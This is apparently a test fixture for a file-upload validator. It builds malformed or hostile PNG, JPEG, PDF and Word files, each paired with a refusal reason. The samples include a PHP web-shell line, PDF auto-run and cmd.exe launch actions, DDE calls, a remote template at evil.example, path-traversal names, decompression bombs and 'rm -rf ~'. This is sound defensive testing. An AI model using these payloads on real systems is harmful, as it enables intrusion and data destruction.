import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import type { EvidenceRefusal } from '#support/evidence/rules/refusals.ts'
import { archiveOf, overlappingArchive, packedRepeat } from '#support/spreadsheet/archive-maker.ts'
import {
  chunk,
  contentTypes,
  docx,
  frame,
  jpeg,
  pdfOf,
  pdfStream,
  png,
  pngHeader,
  pngOf,
  segment,
  tie,
  ties,
  wordText,
} from './making.ts'

/** What a file pretends to be, how it is made, and for which reason it must be refused. */
export type Hostile = [what: string, name: string, make: () => Uint8Array, reason: EvidenceRefusal]

const MB = 1024 * 1024
const both = (...parts: (Uint8Array | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part as string)))
const changed = (bytes: Uint8Array, from: string, to: string) => {
  const at = Buffer.from(bytes).indexOf(from, 0, 'latin1')
  if (at < 0) throw new Error(`there is no ${from} to change`)
  const copy = Buffer.from(bytes)
  copy.write(to, at, 'latin1')
  return copy
}
const end = chunk('IEND', Buffer.alloc(0))
const zip = () => archiveOf([{ name: 'a.txt', data: 'hidden' }])
const program = () => {
  const bytes = Buffer.alloc(4096, 0x90)
  bytes.write('MZ', 0, 'latin1')
  bytes.writeUInt32LE(128, 60)
  bytes.write('PE\0\0', 128, 'latin1')
  return bytes
}
/** A file as old office programs made them, with streams of these names. */
const ole = (...streams: string[]) =>
  both(
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(1528),
    ...streams.map((name) => Buffer.from(name.padEnd(32, '\0'), 'utf16le')),
    Buffer.alloc(4096),
  )

export const pictures: Hostile[] = [
  ['a PNG that is cut off', 'a.png', () => png('巡航记录').subarray(0, 60), 'evidence.damaged'],
  ['a PNG without its last chunk', 'a.png', () => png('巡航').subarray(0, -12), 'evidence.damaged'],
  ['a PNG of which one byte was changed', 'a.png', () => changed(png('abc'), 'IDAT', 'IDAU'), 'evidence.damaged'],
  ['a PNG that is nothing but its first eight bytes', 'a.png', () => pngOf(Buffer.alloc(40, 7)), 'evidence.damaged'],
  ['a PNG with a program behind', 'a.png', () => both(png('x'), program()), 'evidence.more-behind'],
  ['a PNG with an archive behind', 'a.png', () => both(png('x'), zip()), 'evidence.more-behind'],
  [
    'a PNG with an archive in a chunk of text, whose comment holds the rest of the picture',
    'a.png',
    () => {
      const inner = archiveOf([{ name: 'a.txt', data: 'x' }])
      inner.writeUInt16LE(16, inner.length - 2)
      return pngOf(pngHeader(1, 1), chunk('IDAT', deflateSync(Buffer.from([0, 1]))), chunk('prVt', inner), end)
    },
    'evidence.more-behind',
  ],
  [
    'a PNG of ten thousand million points in a few bytes',
    'a.png',
    () => pngOf(pngHeader(100_000, 100_000), chunk('IDAT', deflateSync(Buffer.alloc(MB))), end),
    'evidence.unpacks-too-large',
  ],
  [
    'a PNG that unpacks to 2 GB where it says one point',
    'a.png',
    () => pngOf(pngHeader(1, 1), chunk('IDAT', zlibOf(packedRepeat('', '\0'.repeat(MB), 2000, '').packed!)), end),
    'evidence.unpacks-too-large',
  ],
  [
    'a PNG whose packed text is 1 GB',
    'a.png',
    () => {
      const text = both('Comment\0\0', zlibOf(packedRepeat('', ' '.repeat(MB), 1000, '').packed!))
      return pngOf(pngHeader(1, 1), chunk('zTXt', text), chunk('IDAT', deflateSync(Buffer.from([0, 1]))), end)
    },
    'evidence.unpacks-too-large',
  ],
  [
    'a PNG with a page in its text',
    'a.png',
    () => pngOf(pngHeader(1, 1), chunk('tEXt', both('Title\0<html><script>alert(1)</script>')), end),
    'evidence.has-script',
  ],
  [
    'a PNG with a page in its packed text',
    'a.png',
    () => pngOf(pngHeader(1, 1), chunk('zTXt', both('Title\0\0', deflateSync('<script>alert(1)</script>'))), end),
    'evidence.has-script',
  ],
  [
    'a PNG with forty thousand empty chunks',
    'a.png',
    () => pngOf(pngHeader(1, 1), ...Array<Buffer>(40_000).fill(chunk('tIME', Buffer.alloc(0)))),
    'evidence.damaged',
  ],
  ['a JPEG that is cut off', 'a.jpg', () => jpeg().subarray(0, -2), 'evidence.damaged'],
  [
    'a JPEG of three bytes and noise',
    'a.jpg',
    () => both(Buffer.from('ffd8ffe0', 'hex'), Buffer.alloc(9000, 3)),
    'evidence.damaged',
  ],
  [
    'a JPEG without a picture',
    'a.jpg',
    () => both(Buffer.from('ffd8', 'hex'), segment(0xe0, Buffer.from('JFIF')), Buffer.from('ffd9', 'hex')),
    'evidence.damaged',
  ],
  [
    'a JPEG with a film behind',
    'a.jpg',
    () => both(jpeg(), Buffer.from('00000018667479706d703432', 'hex'), Buffer.alloc(2000, 5)),
    'evidence.more-behind',
  ],
  ['a JPEG with an archive behind', 'a.jpg', () => both(jpeg(), zip()), 'evidence.more-behind'],
  [
    'a JPEG with a page in its comment',
    'a.jpg',
    () => jpeg(segment(0xfe, both('<script src=x>'))),
    'evidence.has-script',
  ],
  [
    'a JPEG with PHP in its place data',
    'a.jpg',
    () => jpeg(segment(0xe1, both('Exif\0\0<?php system($_GET[0]);'))),
    'evidence.has-script',
  ],
  ['a JPEG of four thousand million points', 'a.jpg', () => jpeg(frame(65_000, 65_000)), 'evidence.unpacks-too-large'],
]

/** Raw packed bytes as a PNG or PDF carries them; the sum at their end is not looked at before they are too many. */
function zlibOf(packed: Uint8Array): Buffer {
  return both(Buffer.from([0x78, 0x9c]), packed, Buffer.alloc(4))
}

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const packed = (inside: string) =>
  pdfStream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(`4 0 ${inside}`))

export const documents: Hostile[] = [
  ['a PDF that is cut off', 'a.pdf', () => pdfOf().subarray(0, -30), 'evidence.damaged'],
  [
    'a PDF that is nothing but its first line',
    'a.pdf',
    () => both('%PDF-1.7\n', Buffer.alloc(500, 32)),
    'evidence.damaged',
  ],
  [
    'a PDF that runs a script when it is opened',
    'a.pdf',
    () => pdfOf({ catalog: `/OpenAction${script}` }),
    'evidence.has-script',
  ],
  [
    'a PDF whose script is written with codes',
    'a.pdf',
    () => pdfOf({ catalog: '/OpenAction<</S/J#61va#53cript/JS(1)>>' }),
    'evidence.has-script',
  ],
  [
    'a PDF whose script is among its names',
    'a.pdf',
    () => pdfOf({ catalog: '/Names<</JavaScript 4 0 R>>' }),
    'evidence.has-script',
  ],
  ['a PDF whose script is packed', 'a.pdf', () => pdfOf({ objects: [packed(script)] }), 'evidence.has-script'],
  [
    'a PDF whose script is packed, in a stream named with codes',
    'a.pdf',
    () =>
      pdfOf({
        objects: [
          Buffer.from(
            packed(script).toString('latin1').replace('/ObjStm', '/Obj#53tm').replace('/First', '/F#69rst'),
            'latin1',
          ),
        ],
      }),
    'evidence.has-script',
  ],
  [
    'a PDF whose packed objects are packed twice',
    'a.pdf',
    () =>
      pdfOf({
        objects: [
          pdfStream(
            '/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]',
            deflateSync(deflateSync(`4 0 ${script}`)),
          ),
        ],
      }),
    'evidence.damaged',
  ],
  [
    'a PDF whose packed objects swell to 1 GB',
    'a.pdf',
    () =>
      pdfOf({
        objects: [
          pdfStream(
            '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
            zlibOf(packedRepeat('4 0 ', ' '.repeat(MB), 1000, '').packed!),
          ),
        ],
      }),
    'evidence.unpacks-too-large',
  ],
  [
    'a PDF that starts a program',
    'a.pdf',
    () => pdfOf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
    'evidence.has-script',
  ],
  [
    'a PDF that sends off what is filled in',
    'a.pdf',
    () => pdfOf({ objects: ['<</S/SubmitForm/F(http://x)>>'] }),
    'evidence.has-script',
  ],
  [
    'a PDF with a form that runs by itself',
    'a.pdf',
    () => pdfOf({ catalog: '/AcroForm<</XFA 4 0 R>>' }),
    'evidence.has-script',
  ],
  ['a PDF with a film that runs', 'a.pdf', () => pdfOf({ objects: ['<</Subtype/RichMedia>>'] }), 'evidence.has-script'],
  [
    'a PDF with a program inside',
    'a.pdf',
    () => pdfOf({ objects: [pdfStream('/Type/EmbeddedFile', program())] }),
    'evidence.has-files-inside',
  ],
  [
    'a PDF with a list of attachments',
    'a.pdf',
    () => pdfOf({ catalog: '/Names<</EmbeddedFiles 4 0 R>>' }),
    'evidence.has-files-inside',
  ],
  ['a PDF under a password', 'a.pdf', () => pdfOf({ trailer: '/Encrypt 4 0 R' }), 'evidence.encrypted'],
  ['a PDF with a page behind', 'a.pdf', () => both(pdfOf(), '<html><script>alert(1)</script>'), 'evidence.more-behind'],
  ['a PDF with an archive behind', 'a.pdf', () => both(pdfOf(), zip()), 'evidence.more-behind'],
  ['a PDF with 9 MB behind', 'a.pdf', () => both(pdfOf(), Buffer.alloc(9 * MB, 1)), 'evidence.more-behind'],
  [
    'a PDF with a script across the border of what is read at once',
    'a.pdf',
    () => {
      const before = pdfOf({ objects: [Buffer.alloc(0), '<</S/JavaScript>>'] }).indexOf('/JavaScript')
      return pdfOf({ objects: [Buffer.alloc(256 * 1024 - before - 5, 32), '<</S/JavaScript>>'] })
    },
    'evidence.has-script',
  ],
  [
    'a PDF with 300,000 places of first things',
    'a.pdf',
    () => pdfOf({ objects: ['/First '.repeat(300_000)] }),
    'evidence.damaged',
  ],
]

const macros = { name: 'word/vbaProject.bin', data: ole('VBA') }
const outside = ' TargetMode="External"'
const documentTies = (inside: string) => ({ name: 'word/_rels/document.xml.rels', data: ties(inside) })
const field = (...runs: string[]) =>
  docx({
    name: 'word/document.xml',
    data: wordText(runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')),
  })

export const offices: Hostile[] = [
  ['a Word file with macros', 'a.docx', () => docx(macros), 'evidence.has-macros'],
  [
    'a Word file with macros under another name',
    'a.docx',
    () =>
      docx(
        { name: 'word/theme.bin', data: 'x' },
        documentTies(
          '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme.bin"/>',
        ),
      ),
    'evidence.has-macros',
  ],
  [
    'a Word file for macros',
    'a.docx',
    () =>
      docx({
        name: '[Content_Types].xml',
        data: contentTypes('', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      }),
    'evidence.has-macros',
  ],
  [
    'a workbook with sheets of macros',
    'a.xlsx',
    () => docx({ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }),
    'evidence.has-macros',
  ],
  [
    'a Word file with controls',
    'a.docx',
    () => docx({ name: 'word/activeX/activeX1.xml', data: '<x/>' }),
    'evidence.has-macros',
  ],
  [
    'a Word file with an object',
    'a.docx',
    () => docx({ name: 'word/embeddings/oleObject1.bin', data: ole('Package') }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with an object under another name',
    'a.docx',
    () => docx({ name: 'word/media/image1.bin', data: ole('Ole10Native') }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with a program as a picture',
    'a.docx',
    () => docx({ name: 'word/media/image1.png', data: program() }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with a program as a font',
    'a.docx',
    () => docx({ name: 'word/fonts/font1.odttf', data: program() }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with an archive inside',
    'a.docx',
    () => docx({ name: 'word/media/image1.png', data: zip() }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with an archive inside an archive',
    'a.docx',
    () => docx({ name: 'word/x.bin', data: gzipSync(zip()) }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file that fetches its template elsewhere',
    'a.docx',
    () =>
      docx({
        name: 'word/_rels/settings.xml.rels',
        data: ties(tie('attachedTemplate', 'http://evil.example/t.dotm', outside)),
      }),
    'evidence.reaches-out',
  ],
  [
    'a Word file that fetches a picture elsewhere',
    'a.docx',
    () => docx(documentTies(tie('image', 'file://10.0.0.1/x.png', outside))),
    'evidence.reaches-out',
  ],
  [
    'a Word file that calls another program',
    'a.docx',
    () => field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'),
    'evidence.reaches-out',
  ],
  [
    'a Word file that calls another program, in pieces',
    'a.docx',
    () => field('D', 'DE', 'AUTO c:\\\\cmd.exe'),
    'evidence.reaches-out',
  ],
  [
    'a workbook that calls another program',
    'a.xlsx',
    () =>
      docx({
        name: 'xl/externalLinks/externalLink1.xml',
        data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    'evidence.reaches-out',
  ],
  [
    'a Word file with entities of its own',
    'a.docx',
    () =>
      docx({
        name: 'word/document.xml',
        data: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
      }),
    'evidence.unpacks-too-large',
  ],
  [
    'a Word file in UTF-16',
    'a.docx',
    () => docx({ name: 'word/document.xml', data: Buffer.from('\ufeff<a/>', 'utf16le') }),
    'evidence.damaged',
  ],
  [
    'a Word file that unpacks to 1 GB',
    'a.docx',
    () => docx({ name: 'word/media/image1.bmp', ...packedRepeat('', ' '.repeat(MB), 1000, '') }),
    'evidence.unpacks-too-large',
  ],
  [
    'a Word file of 200 MB in one word',
    'a.docx',
    () => docx({ name: 'word/document.xml', ...packedRepeat('<a>', 'a'.repeat(MB), 200, '</a>') }),
    'evidence.unpacks-too-large',
  ],
  [
    'a Word file that says ten bytes and unpacks to 1 GB',
    'a.docx',
    () => docx({ name: 'word/x.bmp', ...packedRepeat('', ' '.repeat(MB), 1000, ''), claims: 10 }),
    'evidence.unpacks-too-large',
  ],
  [
    'an archive whose entries share their bytes',
    'a.xlsx',
    () => overlappingArchive(2000, 'a'.repeat(MB)),
    'evidence.dishonest-archive',
  ],
  [
    'an archive of 6,000 entries',
    'a.docx',
    () => docx(...Array.from({ length: 6000 }, (_, at) => ({ name: `word/${at}.xml`, data: '<a/>' }))),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file under a password within the archive',
    'a.docx',
    () => docx({ name: 'word/x.xml', data: '<a/>', flags: 1 }),
    'evidence.encrypted',
  ],
  [
    'a Word file with a path that leads out',
    'a.docx',
    () => docx({ name: '../../etc/cron.d/x', data: 'x' }),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file with a path that begins at the root',
    'a.docx',
    () => docx({ name: '/etc/passwd', data: 'x' }),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file with a path of Windows',
    'a.docx',
    () => docx({ name: 'word\\..\\x', data: 'x' }),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file with one part twice',
    'a.docx',
    () => docx({ name: 'word/a.xml', data: '<a/>' }, { name: 'word/A.xml', data: '<b/>' }),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file with two names for one part',
    'a.docx',
    () => changed(docx(), '_rels/.rels', '_rels/.relx'),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file that is a workbook too',
    'a.docx',
    () => docx({ name: 'xl/workbook.xml', data: '<workbook/>' }),
    'evidence.dishonest-archive',
  ],
  ['a Word file with something behind', 'a.docx', () => both(docx(), 'hidden'), 'evidence.more-behind'],
  [
    'a Word file with something before',
    'a.docx',
    () => both('PK\x03\x04', Buffer.alloc(64), docx()),
    'evidence.dishonest-archive',
  ],
  ['a Word file that is cut off', 'a.docx', () => docx().subarray(0, -40), 'evidence.damaged'],
  [
    'a Word file of which one byte was changed',
    'a.docx',
    () =>
      docx({ name: 'word/x.xml', data: '<a>1</a>', stored: true }).map((byte, at, all) =>
        at === Buffer.from(all).indexOf('<a>1') + 3 ? 0x32 : byte,
      ),
    'evidence.damaged',
  ],
]

const plainText = (text: string) => Buffer.from(text)
export const disguised: Hostile[] = [
  ['a program of Windows as a picture', '现场.jpg', program, 'evidence.is-program'],
  [
    'a program of Linux as PDF',
    '通知.pdf',
    () => both(Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(500)),
    'evidence.is-program',
  ],
  ['a shell script as Word', '总结.docx', () => plainText('#!/bin/sh\nrm -rf ~\n'), 'evidence.is-program'],
  ['a batch file as a picture', 'a.png', () => plainText('@echo off\r\ndel *.*\r\n'), 'evidence.is-program'],
  [
    'a shortcut as PDF',
    'a.pdf',
    () => both(Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(300)),
    'evidence.is-program',
  ],
  [
    'a drawing with a script',
    'a.svg',
    () => plainText('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    'evidence.is-web-page',
  ],
  [
    'a drawing as a picture',
    'a.png',
    () => plainText('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
    'evidence.is-web-page',
  ],
  ['a page as PDF', 'a.pdf', () => plainText('  \n<!doctype html><script>alert(1)</script>'), 'evidence.is-web-page'],
  [
    'a page in UTF-16 as a picture',
    'a.jpg',
    () => Buffer.from('\ufeff<html><script>alert(1)</script>', 'utf16le'),
    'evidence.is-web-page',
  ],
  [
    'a saved mail page as Word',
    'a.docx',
    () => plainText('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n'),
    'evidence.is-web-page',
  ],
  ['an archive as Word', 'a.docx', zip, 'evidence.is-archive'],
  [
    'an archive of another kind as a workbook',
    'a.xlsx',
    () => both(Buffer.from('526172211a0700', 'hex'), Buffer.alloc(300)),
    'evidence.is-archive',
  ],
  ['a packed file as a picture', 'a.png', () => gzipSync(Buffer.alloc(5000)), 'evidence.is-archive'],
  ['an old Word file', 'a.doc', () => ole('WordDocument'), 'evidence.is-old-office'],
  ['an old Word file with macros', 'a.doc', () => ole('WordDocument', 'Macros', '_VBA_PROJECT'), 'evidence.has-macros'],
  [
    'an old workbook with macros, named as a new one',
    'a.xlsx',
    () => ole('Workbook', '_VBA_PROJECT_CUR'),
    'evidence.has-macros',
  ],
  ['a Word file under a password', 'a.docx', () => ole('EncryptionInfo', 'EncryptedPackage'), 'evidence.encrypted'],
  ['rich text with an object', 'a.docx', () => plainText('{\\rtf1{\\object\\objupdate}}'), 'evidence.is-old-office'],
  [
    'a film as a picture',
    'a.jpg',
    () => both(Buffer.from('0000001866747970', 'hex'), Buffer.alloc(900)),
    'evidence.type-not-taken',
  ],
  ['raw packed bytes', 'a.png', () => deflateRawSync(Buffer.alloc(9000, 'a')), 'evidence.type-not-taken'],
  ['a picture named as a program', '现场.png.exe', () => png('x'), 'evidence.wrong-ending'],
  ['a picture named as a page', '现场.html', () => png('x'), 'evidence.wrong-ending'],
  ['a picture named as a drawing', '现场.svg', () => png('x'), 'evidence.wrong-ending'],
  ['a Word file named as PDF', '总结.pdf', () => docx(), 'evidence.wrong-ending'],
  ['a PDF named as a picture', '现场.jpg', () => pdfOf(), 'evidence.wrong-ending'],
  ['nothing', 'a.png', () => Buffer.alloc(0), 'evidence.empty'],
]
